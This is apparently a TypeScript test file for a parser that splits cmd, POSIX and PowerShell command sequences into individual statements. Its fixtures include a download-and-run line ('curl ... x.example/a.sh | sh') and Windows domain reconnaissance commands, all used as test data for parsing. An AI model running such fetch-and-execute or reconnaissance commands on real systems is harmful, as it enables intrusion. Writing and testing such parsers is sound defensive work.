import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandStatements, isBareProgram } from './command-statements.js';

describe('commandStatements', () => {
  it('splits cmd, POSIX and PowerShell command sequences into their commands', () => {
    expect(commandStatements('cmd.exe /c whoami /all && net group "domain admins" /domain & ipconfig /all')).toEqual([
      'cmd.exe /c whoami /all',
      'net group "domain admins" /domain',
      'ipconfig /all',
    ]);
    expect(commandStatements('cd /tmp; curl -s http://x.example/a.sh | sh\nchmod +x a.sh')).toEqual([
      'cd /tmp',
      'curl -s http://x.example/a.sh | sh',
      'chmod +x a.sh',
    ]);
  });

  it('keeps a redirect ampersand inside its command and drops empty or one-word parts', () => {
    expect(commandStatements('del out.txt >nul 2>&1 ; ;; x')).toEqual(['del out.txt >nul 2>&1']);
  });

  it('keeps a program run on its own (whoami, arp -a) but not a shell built-in on its own', () => {
    expect(commandStatements('systeminfo\nwhoami  \narp -a\ntasklist /v\nexit\npause\ncls')).toEqual([
      'systeminfo',
      'whoami',
      'arp -a',
      'tasklist /v',
    ]);
    expect(isBareProgram('C:\\Windows\\System32\\whoami.exe')).toBe(false);
    expect(isBareProgram('hostname.exe')).toBe(true);
    expect(isBareProgram('echo /?')).toBe(false);
  });

  it('is bounded in count and length whatever the input', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 3_000 }), (text) => {
        const statements = commandStatements(text, { maxStatements: 5, maxLength: 50 });
        expect(statements.length).toBeLessThanOrEqual(5);
        for (const statement of statements) expect(statement.length).toBeLessThanOrEqual(50);
      }),
    );
  });
});
